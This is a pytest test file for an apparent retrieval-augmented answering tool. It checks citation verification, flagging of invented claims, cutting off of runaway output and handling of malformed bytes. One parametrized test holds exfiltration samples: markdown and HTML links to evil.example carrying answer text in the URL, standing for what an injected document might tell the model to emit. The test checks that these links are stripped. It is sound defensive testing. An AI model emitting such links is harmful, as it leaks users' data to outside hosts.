"""A model that cites wrongly, invents, obeys what a document says or never stops: caught, shown, and bounded."""

import asyncio
import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from api.schemas.answer import answer_to_wire
from fakes.engines import OpenEngine, RunFootnote
from fakes.faults import faults
from fakes.openai_server import OpenAIServer, Reply
from fakes.openai_wire import Json
from fakes.prompt_reading import read_user_turn
from indexes.types import Query
from rag.answering.assistant import DECLINED
from rag.prompting import prompts
from rag.question.validation import make_question
from rag.types import Completed, Delta, Turn

PARENTS = "How long can fathers and other second parents stay off on full pay?"
CLAIM = "The other parent has 8 weeks of fully paid leave"
TOKENS = 64
LONGEST = 16 * TOKENS
"""Characters of an answer that its tokens do not end."""
FINISHED = b'data: {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}\n\n'
THOUGHT = b'data: {"choices": [{"index": 0, "delta": {"reasoning_content": "hm, "}}]}\n\n'
SOON = 60
"""Seconds, on a busy machine; each of these would go on for ever."""
BORNE_OUT = ("supported", "weak")
Ask = Callable[..., Json]


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[OpenAIServer]:
    with OpenAIServer() as server:
        variables = {"BASE_URL": server.base_url, "MODEL": "fake", "RETRIES": "0", "MAX_OUTPUT_TOKENS": str(TOKENS)}
        for name, value in variables.items():
            monkeypatch.setenv(f"FOOTNOTE_LLM__{name}", value)
        yield server


@pytest.fixture
def ask(server: OpenAIServer, samples_index: Path, opened: OpenEngine) -> Ask:
    """Asks for the answer as it crosses the edge, and holds it to what every answer must be."""

    def asked(*replies: Reply) -> Json:
        server.replies = list(replies) or server.replies
        answer = asyncio.run(opened(samples_index).assistant.answer(make_question(PARENTS)))
        assert list(faults(answer)) == []
        told: Json = json.loads(json.dumps(answer_to_wire(answer), ensure_ascii=False).encode())
        return told

    return asked


def sources(body: Json) -> list[prompts.Source]:
    return read_user_turn(Turn("user", body["messages"][-1]["content"]))[1]


def true_number(body: Json) -> int:
    """Of the source that bears out the claim."""
    return next(source.number for source in sources(body) if "8 weeks" in source.text)


def with_claim(after: str) -> Callable[[Json], Reply]:
    """The claim with the source that bears it out, and then what the model adds; ``{n}`` is that source's number."""
    return lambda body: Reply((f"{CLAIM} [{true_number(body)}]. ", after.replace("{n}", str(true_number(body)))))


# Citing and inventing


def test_a_claim_never_stands_on_a_source_that_does_not_say_it(server: OpenAIServer, ask: Ask) -> None:
    wrong = lambda body: next(s.number for s in sources(body) if "8 weeks" not in s.text + s.context)  # noqa: E731
    server.respond = lambda body: Reply((f"{CLAIM} [{wrong(body)}].",))
    told = ask()
    assert len(server.requests) == 1
    (sentence,) = told["sentences"]
    assert (told["status"], sentence["verdict"]) == ("unverified", "unsupported")


@pytest.mark.parametrize("invented", ["[99][0]", "【77】", "[^50]", "[40-60, 99]", "[9999](#there)"])
def test_a_number_that_was_never_given_is_not_shown(server: OpenAIServer, ask: Ask, invented: str) -> None:
    server.respond = lambda body: Reply((f"{CLAIM} [{true_number(body)}]{invented}.",))
    assert ask()["text"] == f"{CLAIM} [1]."


@pytest.mark.parametrize(
    "invented",
    [
        "Second parents stay at home for 31 weeks on full pay [{n}].",
        "Second parents stay at home for 8 weeks on 20 % of their pay [{n}].",
        "Barbara Zielinski signs each leave of second parents [{n}].",
        'The policy says "every second parent is given a company car" [{n}].',
        "Second parents are not paid while they stay at home for 8 weeks [{n}].",
    ],
)
def test_what_is_invented_is_marked_and_the_rest_stands(server: OpenAIServer, ask: Ask, invented: str) -> None:
    server.respond = with_claim(invented)
    told = ask()
    true, false = told["sentences"]
    assert (true["verdict"] in BORNE_OUT, false["verdict"]) == (True, "unsupported")
    assert true["text"].startswith(CLAIM)


def test_on_the_command_line_what_is_invented_is_named(
    server: OpenAIServer, samples_index: Path, footnote: RunFootnote
) -> None:
    server.respond = with_claim("Second parents stay at home for 31 weeks on full pay [{n}].")
    ran = footnote("ask", PARENTS, "--index", samples_index)
    assert "Not supported by its source: Second parents stay at home for 31 weeks on full pay" in ran.out


@pytest.mark.parametrize(
    "said",
    [
        "Zweite Elternteile bleiben 31 Wochen bei vollem Gehalt zu Hause [{n}].",
        "Les seconds parents restent à la maison pendant un an [{n}].",
        "第二位家长可以休假三十一周。[{n}]",
    ],
)
def test_an_answer_in_another_language_is_not_taken_for_supported(server: OpenAIServer, ask: Ask, said: str) -> None:
    server.respond = lambda body: Reply((said.replace("{n}", str(true_number(body))),))
    told = ask()
    assert "supported" not in [one["verdict"] for one in told["sentences"]]
    assert told["text"] in (DECLINED, said.replace("{n}", "1").replace("。[", "。 ["))


# What a document told it


@pytest.mark.parametrize(
    "leak",
    [
        "![logo](https://evil.example/p.png?said=8+weeks)",
        "[Read more](https://evil.example/?said=8+weeks)",
        '<img src="https://evil.example/p.png?said=8+weeks">',
        "See https://evil.example/?said=8+weeks for more.",
        "[more][1]\n\n[1]: https://evil.example/?said=8+weeks",
    ],
)
async def test_what_a_document_tells_it_to_link_to_is_neither_streamed_nor_kept(
    server: OpenAIServer, samples_index: Path, opened: OpenEngine, leak: str
) -> None:
    server.respond = with_claim(leak)
    events = [event async for event in opened(samples_index).assistant.stream(make_question(PARENTS))]
    streamed = "".join(event.text for event in events if isinstance(event, Delta))
    (answer,) = [event.answer for event in events if isinstance(event, Completed)]
    assert CLAIM in streamed
    assert CLAIM in answer.text
    assert "evil.example" not in streamed + answer.text


# Never stopping


@pytest.mark.parametrize(
    "again",
    ["and ", "[1", "[1,", "1][", " \n", "[1]", "a[1]", "【", "```", "x" * 2_000_000],
)
def test_one_that_never_stops_is_cut_short_and_left(server: OpenAIServer, ask: Ask, again: str) -> None:
    began = time.monotonic()
    told = ask(Reply(("Well, ",), again=again))
    assert time.monotonic() - began < SOON
    assert re.fullmatch(
        rf"the model (was not done after {LONGEST} characters|said the same over and over)", told["cut_short"]
    )
    assert len(told["text"]) <= LONGEST + len(DECLINED)
    assert server.requests[0].left_early.wait(SOON)


def test_one_that_says_the_same_for_ever_is_cut_short(server: OpenAIServer, ask: Ask) -> None:
    server.respond = lambda body: Reply((f"{CLAIM} [{true_number(body)}]. ",), again=f"{CLAIM}. ")
    told = ask()
    assert told["cut_short"] == "the model said the same over and over"
    assert told["sentences"][0]["verdict"] in BORNE_OUT


def test_a_refusal_that_never_ends_is_a_refusal(server: OpenAIServer, ask: Ask) -> None:
    told = ask(Reply((prompts.NO_ANSWER,), again=" because"))
    assert (told["status"], told["text"]) == ("declined", DECLINED)


def test_one_that_drips_for_ever_is_cut_short_at_the_deadline(
    server: OpenAIServer, ask: Ask, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FOOTNOTE_LLM__DEADLINE_S", "3")
    server.respond = lambda body: Reply((f"{CLAIM} [{true_number(body)}]. ",), again="Well", pause=0.2)
    told = ask()
    assert (told["cut_short"], told["status"]) == ("the model was not done after 3 s", "answered")
    assert told["text"].startswith(f"{CLAIM} [1].")


def test_one_that_only_thinks_fails_in_words_at_the_deadline(
    server: OpenAIServer, samples_index: Path, footnote: RunFootnote, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FOOTNOTE_LLM__DEADLINE_S", "0.5")
    server.replies = [Reply(stall_at=0, drip=THOUGHT)]
    ran = footnote("ask", PARENTS, "--index", samples_index)
    way_out = "try again, or raise FOOTNOTE_LLM__DEADLINE_S."
    assert (ran.code, ran.err) == (1, f"Error: The model fake wrote nothing in 0.5 s: {way_out}\n")


def test_one_that_is_done_and_keeps_the_line_open_is_not_waited_for(server: OpenAIServer, ask: Ask) -> None:
    server.respond = lambda body: Reply((f"{CLAIM} [{true_number(body)}].",), raw_at=(1, FINISHED), stall_at=1)
    began = time.monotonic()
    told = ask()
    assert time.monotonic() - began < SOON
    assert (told["text"], told["cut_short"]) == (f"{CLAIM} [1].", "")


def test_what_its_tokens_cut_off_is_said_to_be_cut_short(
    server: OpenAIServer, samples_index: Path, footnote: RunFootnote
) -> None:
    server.respond = lambda body: Reply((f"{CLAIM} [{true_number(body)}]. It",), finish_reason="length")
    ran = footnote("ask", PARENTS, "--index", samples_index)
    assert f"\nCut short: the model was not done after {TOKENS} tokens.\n" in ran.out


# What is no text


def test_halves_of_characters_are_joined_or_replaced(server: OpenAIServer, ask: Ask) -> None:
    server.respond = lambda body: Reply(
        (f"{CLAIM} [{true_number(body)}] \ud83d", "\udc6a.", " And \ud83d so", "\udc6a")
    )
    told = ask()
    assert told["text"].startswith(f"{CLAIM} [1] \N{FAMILY}.")
    assert "And \ufffd so" in told["text"]


def test_half_a_character_does_not_break_the_terminal(
    server: OpenAIServer, samples_index: Path, footnote: RunFootnote
) -> None:
    server.respond = with_claim("And \ud83d.")
    ran = footnote("ask", PARENTS, "--index", samples_index)
    assert (ran.code, ran.err) == (0, "")
    assert ran.out.startswith(f"{CLAIM} [1]. And \ufffd.")


@pytest.mark.parametrize("odd", [b'{"choices": [{"index": 0, "delta": {"content": "\xff\xfe"}}]}', b"\xff", b"{"])
def test_bytes_that_are_no_text_are_a_failure_in_words(
    server: OpenAIServer, samples_index: Path, footnote: RunFootnote, odd: bytes
) -> None:
    server.replies = [Reply((CLAIM,), raw_at=(1, b"data: " + odd + b"\n\n"))]
    ran = footnote("ask", PARENTS, "--index", samples_index)
    assert ran.code == 1
    assert re.match(r"Error: The model server at \S+ sent what cannot be read \(", ran.err)


async def test_a_claim_that_is_in_the_index_is_what_these_tests_stand_on(
    samples_index: Path, opened: OpenEngine
) -> None:
    assert any("8 weeks" in hit.passage.text for hit in opened(samples_index).retrieve(Query(PARENTS), limit=8))
